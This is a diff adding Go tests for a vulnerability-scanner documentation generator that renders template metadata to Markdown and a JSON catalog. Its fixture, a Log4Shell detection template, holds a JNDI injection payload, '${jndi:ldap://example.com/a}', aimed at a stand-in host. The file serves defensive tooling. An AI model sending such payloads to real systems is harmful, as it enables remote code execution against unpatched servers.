@@ -0,0 +1,126 @@
+package main
+
+import (
+	"encoding/json"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/artnikel/nuclei/internal/docs"
+	"github.com/artnikel/nuclei/internal/templates"
+)
+
+const fixtureTemplate = `id: log4shell
+info:
+  name: Log4Shell JNDI injection
+  author: researcher
+  severity: critical
+  description: Detects JNDI lookups evaluated by Apache Log4j.
+  tags: cve,rce,log4j
+  cve-id: CVE-2021-44228
+  cvss-score: 10.0
+http:
+  - method: GET
+    path:
+      - "{{BaseURL}}/?x=${jndi:ldap://example.com/a}"
+    matchers:
+      - type: status
+        status: [200]
+  - type: dns
+    path:
+      - A
+    matchers:
+      - type: word
+        words: ["127.0.0.1"]
+`
+
+// loadFixtureDocs writes the fixture template and returns its documentation
+func loadFixtureDocs(t *testing.T) []docs.TemplateDoc {
+	t.Helper()
+	path := filepath.Join(t.TempDir(), "log4shell.yaml")
+	if err := os.WriteFile(path, []byte(fixtureTemplate), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	tmpl, err := templates.LoadTemplate(path)
+	if err != nil {
+		t.Fatalf("LoadTemplate: %v", err)
+	}
+	return []docs.TemplateDoc{docs.NewTemplateDoc(tmpl)}
+}
+
+func TestWriteMarkdown(t *testing.T) {
+	outDir := t.TempDir()
+	if err := writeMarkdown(outDir, "", "", loadFixtureDocs(t)); err != nil {
+		t.Fatalf("writeMarkdown: %v", err)
+	}
+
+	page, err := os.ReadFile(filepath.Join(outDir, "log4shell.md"))
+	if err != nil {
+		t.Fatalf("template page not written: %v", err)
+	}
+	for _, want := range []string{
+		"# Log4Shell JNDI injection",
+		"| ID | `log4shell` |",
+		"| Severity | critical |",
+		"| Author | researcher |",
+		"| CVE | CVE-2021-44228 |",
+		"| CVSS score | 10.0 |",
+		"## Description\n\nDetects JNDI lookups evaluated by Apache Log4j.",
+		"## Tags\n\n`cve`, `rce`, `log4j`",
+		"## Request types\n\n- http\n- dns",
+		"## Example",
+		"nuclei-cli -targets targets.txt -templates ",
+	} {
+		if !strings.Contains(string(page), want) {
+			t.Errorf("template page misses %q:\n%s", want, page)
+		}
+	}
+
+	index, err := os.ReadFile(filepath.Join(outDir, "TEMPLATES.md"))
+	if err != nil {
+		t.Fatalf("TEMPLATES.md not written: %v", err)
+	}
+	for _, tag := range []string{"## cve", "## rce", "## log4j"} {
+		if !strings.Contains(string(index), tag) {
+			t.Errorf("TEMPLATES.md misses the %s group:\n%s", tag, index)
+		}
+	}
+	if !strings.Contains(string(index), "| [log4shell](log4shell.md) | Log4Shell JNDI injection | critical | CVE-2021-44228 |") {
+		t.Errorf("TEMPLATES.md misses the template row:\n%s", index)
+	}
+}
+
+func TestWriteMarkdownCustomTemplate(t *testing.T) {
+	dir := t.TempDir()
+	pageTemplate := filepath.Join(dir, "page.tmpl")
+	if err := os.WriteFile(pageTemplate, []byte("{{.ID}} scores {{.CVSSScore}}\n"), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	outDir := t.TempDir()
+	if err := writeMarkdown(outDir, pageTemplate, "", loadFixtureDocs(t)); err != nil {
+		t.Fatalf("writeMarkdown: %v", err)
+	}
+	page, _ := os.ReadFile(filepath.Join(outDir, "log4shell.md"))
+	if string(page) != "log4shell scores 10\n" {
+		t.Errorf("custom page = %q", page)
+	}
+}
+
+func TestWriteCatalog(t *testing.T) {
+	path := filepath.Join(t.TempDir(), "catalog.json")
+	err := writeFile(path, func(f *os.File) error {
+		return docs.WriteCatalog(f, loadFixtureDocs(t))
+	})
+	if err != nil {
+		t.Fatalf("WriteCatalog: %v", err)
+	}
+	data, _ := os.ReadFile(path)
+	var catalog []docs.TemplateDoc
+	if err := json.Unmarshal(data, &catalog); err != nil {
+		t.Fatalf("catalog is not JSON: %v\n%s", err, data)
+	}
+	if len(catalog) != 1 || catalog[0].CVEID != "CVE-2021-44228" || strings.Join(catalog[0].RequestTypes, ",") != "http,dns" {
+		t.Errorf("catalog = %+v", catalog)
+	}
+}